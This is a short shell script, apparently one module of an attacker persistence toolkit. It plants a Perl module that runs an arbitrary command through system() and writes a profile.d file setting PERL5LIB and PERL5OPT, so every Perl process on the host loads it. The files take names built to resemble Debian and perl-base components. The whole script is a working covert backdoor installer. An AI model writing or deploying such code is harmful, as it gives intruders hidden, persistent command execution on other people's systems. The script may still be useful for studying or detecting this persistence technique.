#!/bin/sh
# environment-perl: a module that every perl loads (perlrun(1), PERL5OPT)
. "${0%/*}/lib.sh"
payload
put "/usr/local/share/perl5/$(named Hook Debian).pm" 644 "system(\"$cmd\"); 1;"
put "/etc/profile.d/$(named perl perl-base).sh" 644 "$head" \
	"export PERL5LIB=/usr/local/share/perl5 PERL5OPT=-M$(named Hook Debian)"
